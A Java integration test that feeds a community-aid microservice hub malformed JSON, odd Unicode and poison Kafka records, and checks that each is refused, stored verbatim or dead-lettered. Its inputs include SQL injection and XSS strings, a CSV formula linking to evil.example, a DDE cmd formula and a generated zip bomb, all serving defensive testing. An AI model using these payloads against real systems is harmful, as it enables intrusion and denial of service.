package org.wushe.hub.local.hub;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.TreeMap;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * The bad-input suite, against the whole hub with a tenth of the sample town: malformed JSON, wrong types,
 * missing and unknown fields, 10 MB bodies, odd Unicode, SQL-injection and script strings, spreadsheets with
 * formulas, huge sheets and zip bombs, and poison records on every topic a service consumes. Each must end
 * in a 4xx problem naming the field, or be stored exactly as sent (text is data), or go to the topic's
 * dead-letter topic; never a 5xx. Afterwards every service still serves, the events still flow, and nothing
 * accepted before is lost. Prints how many inputs were tried and how each ended.
 */
class HubBadInputTest {

    /** Each service's endpoints that take a JSON body. */
    private static final Map<String, List<String>> JSON_ENDPOINTS = new LinkedHashMap<>();

    static {
        JSON_ENDPOINTS.put("community-service", List.of("/communities", "/stations", "/residents", "/needs"));
        JSON_ENDPOINTS.put("organization-service", List.of("/organizations"));
        JSON_ENDPOINTS.put("social-worker-service", List.of("/social-workers"));
        JSON_ENDPOINTS.put("volunteer-service", List.of("/volunteers", "/teams"));
        JSON_ENDPOINTS.put("resource-service", List.of("/donors", "/offers"));
        JSON_ENDPOINTS.put("matching-service", List.of("/matches/" + UUID.randomUUID() + "/decline"));
    }

    /** The topics the services consume (Aggregate's catalogue), each poisoned. */
    private static final List<String> CONSUMED_TOPICS = List.of(
            "wushe.community.need",
            "wushe.community.station",
            "wushe.matching.match",
            "wushe.resource.offer",
            "wushe.resource.donor",
            "wushe.volunteer.volunteer",
            "wushe.organization.organization",
            "wushe.socialworker.worker");

    private final HubProcess hub = new HubProcess("hub-bad-input");
    private final Map<String, Integer> outcomes = new TreeMap<>();
    private final List<String> wrong = new ArrayList<>();
    private int tried;

    @AfterEach
    void stop() throws InterruptedException {
        hub.close();
    }

    @Test
    void everyBadInputIsRefusedClearlyOrKeptAsDataAndNothingIsLost() throws Exception {
        hub.start("hub.log", "--wipe", "--sample-scale", "0.1", "--sample-minutes", "1");
        hub.awaitReady();
        Map<String, Integer> before = counts();

        jsonBodies();
        textIsData();
        spreadsheets();
        int poisoned = poisonRecords();

        // The services still serve, the events still flow: a station registered now reaches matching.
        for (String service : HubProcess.SERVICES) {
            assertThat(hub.get(service, "/actuator/health").path("status").asText())
                    .as(service)
                    .isEqualTo("UP");
        }
        String stationName =
                "坏输入之后 after-bad-input " + UUID.randomUUID().toString().substring(0, 8);
        String communityId = hub.get("community-service", "/communities?limit=1")
                .get(0)
                .get("id")
                .asText();
        HttpResponse<String> station = post(
                "community-service",
                "/stations",
                "{\"name\":\"" + stationName + "\",\"level\":\"COMMUNITY_STATION\",\"communityId\":\"" + communityId
                        + "\",\"servedCommunityIds\":[\"" + communityId + "\"]}");
        assertThat(station.statusCode()).as(station.body()).isEqualTo(201);
        await().atMost(Duration.ofSeconds(60))
                .pollInterval(Duration.ofSeconds(1))
                .until(() -> hub.get("matching-service", "/stations").toString().contains(stationName));

        // Nothing accepted before is lost (more may have arrived: the sample's needs go on).
        Map<String, Integer> after = counts();
        before.forEach((what, n) -> assertThat(after.get(what))
                .as(what + " before " + n + ", after")
                .isGreaterThanOrEqualTo(n));

        System.out.printf(
                "bad-input suite: %d inputs tried (%d of them poison records on %d topics)%n",
                tried, poisoned, CONSUMED_TOPICS.size());
        outcomes.forEach((how, n) -> System.out.printf("  %-60s %5d%n", how, n));
        System.out.printf("  kept before → after: %s → %s%n", before, after);
        assertThat(wrong)
                .as("inputs that did not end in a clear 4xx, as data, or as a dead letter")
                .isEmpty();
    }

    // ---------------------------------------------------------------- JSON bodies

    private void jsonBodies() {
        String tenMegabytes = "{\"name\":\"" + "长".repeat(10 * 1024 * 1024 / 3) + "\"}";
        StringBuilder deep = new StringBuilder();
        deep.append("[".repeat(5_000)).append("]".repeat(5_000));
        Map<String, byte[]> cases = new LinkedHashMap<>();
        cases.put("malformed JSON", "{\"name\": \"x\", ".getBytes(StandardCharsets.UTF_8));
        cases.put("not JSON at all", "name=x&kind=y".getBytes(StandardCharsets.UTF_8));
        cases.put("empty body", new byte[0]);
        cases.put("JSON null", "null".getBytes(StandardCharsets.UTF_8));
        cases.put("an array instead of an object", "[1,2,3]".getBytes(StandardCharsets.UTF_8));
        cases.put("missing every field", "{}".getBytes(StandardCharsets.UTF_8));
        cases.put("unknown field", "{\"bogusField\":1}".getBytes(StandardCharsets.UTF_8));
        cases.put(
                "wrong types",
                "{\"name\":[1,2],\"communityId\":42,\"kind\":{\"a\":1},\"skills\":\"x\",\"reason\":7}"
                        .getBytes(StandardCharsets.UTF_8));
        cases.put(
                "a number too large",
                "{\"gridCount\":1e999999,\"quantity\":99999999999999999999999}".getBytes(StandardCharsets.UTF_8));
        cases.put(
                "invalid UTF-8",
                new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'});
        cases.put("nesting 5,000 deep", deep.toString().getBytes(StandardCharsets.UTF_8));
        cases.put("10 MB body", tenMegabytes.getBytes(StandardCharsets.UTF_8));
        JSON_ENDPOINTS.forEach((service, paths) -> {
            for (String path : paths) {
                cases.forEach((name, body) ->
                        expectProblem(name, service, path, send(service, path, "application/json", body)));
                expectProblem(
                        "wrong content type",
                        service,
                        path,
                        send(service, path, "text/plain", "{}".getBytes(StandardCharsets.UTF_8)));
            }
        });
    }

    /** A 4xx with an RFC 9457 body; 400 and 413 also name the field. */
    private void expectProblem(String input, String service, String path, HttpResponse<String> r) {
        tried++;
        String where = service + " " + path.replaceAll("[0-9a-f-]{36}", "{id}");
        int status = r.statusCode();
        boolean problemJson = r.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json");
        boolean named = false;
        if (problemJson && !r.body().isBlank()) {
            JsonNode body = HubProcess.readTree(r.body());
            named = body.path("errors").path(0).path("field").asText().length() > 0;
        }
        boolean ok = status >= 400
                && status < 500
                && problemJson
                && (named || status == 415 || status == 405 || status == 404);
        outcomes.merge(status + (named ? " problem naming the field" : " problem"), 1, Integer::sum);
        if (!ok) {
            wrong.add(input + " → " + where + ": " + status + " " + abbreviate(r.body()));
        }
    }

    // ---------------------------------------------------------------- text is data

    private static final Map<String, String> TEXTS = new LinkedHashMap<>();

    static {
        TEXTS.put("SQL injection", "x'); DROP TABLE community; --");
        TEXTS.put("SQL injection 2", "' OR '1'='1");
        TEXTS.put("script", "<script>alert('xss')</script>");
        TEXTS.put("HTML attribute", "\"><img src=x onerror=alert(1)>");
        TEXTS.put("right-to-left override", "社区\u202Egnp.exe");
        TEXTS.put("zero-width and joiners", "志\u200B愿\u200D者\uFEFF");
        TEXTS.put("emoji family", "邻里👩‍👩‍👧‍👦互助");
        TEXTS.put("combining marks", "Ze\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301lgo");
        TEXTS.put("CJK extension B", "𠀀𠀁𪚥社区");
        TEXTS.put("full-width and ideographic space", "ＡＢＣ\u3000社区");
        TEXTS.put("NUL character", "社区\u0000名");
        TEXTS.put("lone surrogate", "社区\uD800名");
        TEXTS.put("control characters", "社区\u0007\u001B[31m名");
    }

    /** Odd text in a name: refused with 400 naming it, or stored and read back exactly as sent. */
    private void textIsData() {
        String communityId = hub.get("community-service", "/communities?limit=1")
                .get(0)
                .get("id")
                .asText();
        TEXTS.forEach((name, text) -> {
            String quoted = jsonString(text);
            storedOrRefused(
                    name,
                    "community-service",
                    "/communities",
                    "{\"name\":" + quoted
                            + ",\"kind\":\"URBAN\",\"districtCode\":\"110112\",\"streetCode\":\"110112104\",\"geohash\":\"wx4fye\","
                            + "\"gridCount\":1,\"householdCount\":10,\"residentCount\":20}",
                    "name",
                    text);
            storedOrRefused(
                    name,
                    "volunteer-service",
                    "/teams",
                    "{\"name\":" + quoted + ",\"purpose\":" + quoted + "}",
                    "name",
                    text);
            storedOrRefused(
                    name,
                    "community-service",
                    "/residents",
                    "{\"communityId\":\"" + communityId + "\",\"name\":" + quoted + ",\"address\":" + quoted + "}",
                    null,
                    text);
        });
    }

    private void storedOrRefused(String input, String service, String path, String json, String field, String text) {
        tried++;
        HttpResponse<String> r = send(service, path, "application/json", json.getBytes(StandardCharsets.UTF_8));
        String where = service + " " + path;
        if (r.statusCode() == 201) {
            if (field != null) {
                String id = HubProcess.readTree(r.body()).path("id").asText();
                String back = hub.get(service, path + "/" + id).path(field).asText();
                if (!back.equals(text)) {
                    wrong.add(input + " → " + where + ": stored as " + jsonString(back) + ", sent " + jsonString(text));
                }
            }
            outcomes.merge("201 stored as data, read back as sent", 1, Integer::sum);
        } else {
            expectProblem(input, service, path, r);
            tried--;
        }
    }

    // ---------------------------------------------------------------- spreadsheets

    private void spreadsheets() throws IOException {
        String template = hub.send(
                        "community-service",
                        HttpRequest.newBuilder(
                                        URI.create(hub.url("community-service", "/imports/templates/zh?format=csv")))
                                .GET())
                .body();
        String header = template.lines()
                .filter(l -> !l.isBlank())
                .findFirst()
                .orElseThrow()
                .replace("\uFEFF", "");
        int columns = header.split(",", -1).length;
        String formulaRow = "=HYPERLINK(\"http://evil.example/\"&A1)" + ",x".repeat(columns - 1);
        upload(
                "formula in a CSV cell",
                "needs.csv",
                (header + "\n" + formulaRow + "\n").getBytes(StandardCharsets.UTF_8));
        upload(
                "DDE formula in a CSV cell",
                "needs.csv",
                (header + "\n" + "@SUM(1+9)*cmd|' /C calc'!A0" + ",x".repeat(columns - 1) + "\n")
                        .getBytes(StandardCharsets.UTF_8));
        StringBuilder huge = new StringBuilder(header).append('\n');
        String row = "门锁维修" + ",x".repeat(columns - 1) + "\n";
        huge.append(row.repeat(25_000));
        upload("25,000-row sheet (cap 20,000)", "needs.csv", huge.toString().getBytes(StandardCharsets.UTF_8));
        upload("zip bomb as .xlsx", "needs.xlsx", zipBomb());
        upload(
                "not a spreadsheet",
                "needs.xlsx",
                "MZ\u0090\u0000 this is no zip".getBytes(StandardCharsets.ISO_8859_1));
        upload("empty file", "needs.csv", new byte[0]);
    }

    private void upload(String input, String fileName, byte[] content) {
        String boundary = "----wushe" + UUID.randomUUID();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                        + "\"\r\nContent-Type: application/octet-stream\r\n\r\n")
                .getBytes(StandardCharsets.UTF_8));
        body.writeBytes(content);
        body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        HttpResponse<String> r =
                send("community-service", "/imports", "multipart/form-data; boundary=" + boundary, body.toByteArray());
        expectProblem(input, "community-service", "/imports", r);
    }

    /** A valid zip whose sheet inflates from about 200 KB to 200 MB. */
    private static byte[] zipBomb() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(
                    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
                            .getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            byte[] spaces = new byte[1 << 20];
            java.util.Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < 200; i++) {
                zip.write(spaces);
            }
            zip.closeEntry();
        }
        return out.toByteArray();
    }

    // ---------------------------------------------------------------- poison records

    /** Poison on every consumed topic: each ends on the topic's .dlt with a reason. Returns how many were sent. */
    private int poisonRecords() throws Exception {
        Map<String, Long> dltBefore = dltCounts();
        Properties p = new Properties();
        p.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, hub.bootstrapServers());
        p.put(ProducerConfig.ACKS_CONFIG, "all");
        List<byte[]> poisons = List.of(
                "not avro at all".getBytes(StandardCharsets.UTF_8),
                new byte[0],
                new byte[] {(byte) 0xC3, 0x01, 1, 2, 3, 4, 5, 6, 7, 8, 9, 9, 9, 9
                }, // single-object magic, unknown fingerprint
                "{\"eventType\":\"NeedPublished\",\"needId\":\"'; DROP TABLE need; --\"}"
                        .getBytes(StandardCharsets.UTF_8));
        int sent = 0;
        try (KafkaProducer<byte[], byte[]> producer =
                new KafkaProducer<>(p, new ByteArraySerializer(), new ByteArraySerializer())) {
            for (String topic : CONSUMED_TOPICS) {
                for (byte[] poison : poisons) {
                    ProducerRecord<byte[], byte[]> record = new ProducerRecord<>(
                            topic, UUID.randomUUID().toString().getBytes(StandardCharsets.UTF_8), poison);
                    record.headers().add("id", UUID.randomUUID().toString().getBytes(StandardCharsets.UTF_8));
                    record.headers().add("eventType", "Garbage".getBytes(StandardCharsets.UTF_8));
                    producer.send(record).get();
                    sent++;
                }
            }
        }
        tried += sent;
        // Each consumer of a topic dead-letters each poison record: at least one dead letter per record sent.
        await().atMost(Duration.ofSeconds(120))
                .pollInterval(Duration.ofSeconds(2))
                .until(() -> {
                    Map<String, Long> now = dltCounts();
                    return CONSUMED_TOPICS.stream()
                            .allMatch(t -> now.getOrDefault(t + ".dlt", 0L) - dltBefore.getOrDefault(t + ".dlt", 0L)
                                    >= poisons.size());
                });
        Map<String, Long> after = dltCounts();
        for (String topic : CONSUMED_TOPICS) {
            long n = after.getOrDefault(topic + ".dlt", 0L) - dltBefore.getOrDefault(topic + ".dlt", 0L);
            outcomes.merge("dead letters on " + topic + ".dlt (one per consumer group)", (int) n, Integer::sum);
        }
        outcomes.merge("poison records sent", sent, Integer::sum);
        return sent;
    }

    private Map<String, Long> dltCounts() {
        return hub.recordCounts(
                topic -> CONSUMED_TOPICS.contains(topic.replaceFirst("\\.dlt$", "")) && topic.endsWith(".dlt"));
    }

    // ---------------------------------------------------------------- helpers

    private Map<String, Integer> counts() {
        Map<String, Integer> n = new LinkedHashMap<>();
        n.put(
                "communities",
                hub.get("community-service", "/communities?limit=1000").size());
        n.put("residents", hub.residents().size());
        n.put("needs", hub.get("community-service", "/needs?limit=1000").size());
        n.put(
                "volunteers",
                hub.get("volunteer-service", "/volunteers?limit=200").size());
        n.put("offers", hub.get("resource-service", "/offers").size());
        n.put("organizations", hub.get("organization-service", "/organizations").size());
        n.put(
                "social workers",
                hub.get("social-worker-service", "/social-workers?limit=100").size());
        n.put(
                "matched in matching",
                hub.get("matching-service", "/engine").path("needsMatched").asInt());
        return n;
    }

    private HttpResponse<String> post(String service, String path, String json) {
        return send(service, path, "application/json", json.getBytes(StandardCharsets.UTF_8));
    }

    private HttpResponse<String> send(String service, String path, String contentType, byte[] body) {
        return hub.send(
                service,
                HttpRequest.newBuilder(URI.create(hub.url(service, path)))
                        .header("Content-Type", contentType)
                        .header("Accept", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
    }

    /** Every character beyond ASCII escaped in the JSON, so a lone surrogate or a NUL travels as itself. */
    private static final com.fasterxml.jackson.databind.ObjectMapper ESCAPING =
            com.fasterxml.jackson.databind.json.JsonMapper.builder()
                    .enable(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII)
                    .build();

    private static String jsonString(String s) {
        try {
            return ESCAPING.writeValueAsString(s);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String abbreviate(String s) {
        return s.length() > 300 ? s.substring(0, 300) + "…" : s;
    }
}
